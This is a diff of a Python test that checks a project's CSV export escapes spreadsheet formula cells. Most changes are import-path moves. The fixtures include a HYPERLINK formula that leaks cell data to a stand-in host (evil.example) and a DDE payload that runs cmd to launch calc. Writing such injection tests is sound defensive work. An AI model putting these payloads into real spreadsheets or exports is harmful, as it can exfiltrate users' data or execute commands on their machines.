@@ -7,8 +7,8 @@ import datetime as dt
 import io
 from pathlib import Path
 
-from privacy_terms.dataset import load_dataset
-from privacy_terms.opendata import comparison_csv, events_csv
+from privacy_terms.data.dataset import load_dataset
+from privacy_terms.website.opendata import comparison_csv, events_csv
 
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
 
@@ -23,7 +23,9 @@ def test_csv_cells_that_would_run_as_formulas_start_with_an_apostrophe(
     alpha = valid_project / "platforms" / "alpha.yaml"
     text = alpha.read_text(encoding="utf-8")
     text = text.replace("\nname: Alpha Chat\n", f"\nname: {FORMULA!r}\n")
-    text = text.replace("summary: Alpha Chat announces a pause.", 'summary: "@SUM(1+1)*cmd|/C calc!A0"')
+    text = text.replace(
+        "summary: Alpha Chat announces a pause.", 'summary: "@SUM(1+1)*cmd|/C calc!A0"'
+    )
     text = text.replace(
         "speaker: An Alpha spokesperson\n        said: We are pausing",
         "speaker: +An Alpha spokesperson\n        said: We are pausing",
